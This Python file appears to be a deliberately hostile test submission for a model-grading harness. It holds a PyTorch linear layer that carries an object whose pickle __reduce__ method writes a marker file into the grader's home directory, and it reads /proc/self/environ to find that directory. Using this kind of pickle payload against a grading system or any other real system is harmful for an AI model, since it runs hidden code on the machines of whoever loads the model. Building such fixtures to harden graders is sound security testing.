# Hostile: forward returns, and the module holds as an attribute, an object whose unpickling runs code (it
# would create a file in the grader's home folder). Its forward therefore returns no tensor at all.
import os

import torch
from torch import nn


def _marker():
    try:
        environ = open("/proc/self/environ", "rb").read().decode(errors="replace").split("\0")
        home = next(e.split("=", 1)[1] for e in environ if e.startswith("HOME="))
    except (OSError, StopIteration):
        home = os.environ.get("HOME", "/tmp")
    return os.path.join(home, "PWNED_BY_REDUCE")


class Payload:
    def __reduce__(self):
        return (open, (_marker(), "w"))


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        bound = 1.0 / in_features**0.5
        self.weights = nn.Parameter(torch.empty(in_features, out_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)
        self.payload = Payload()

    def forward(self, x):
        return Payload()
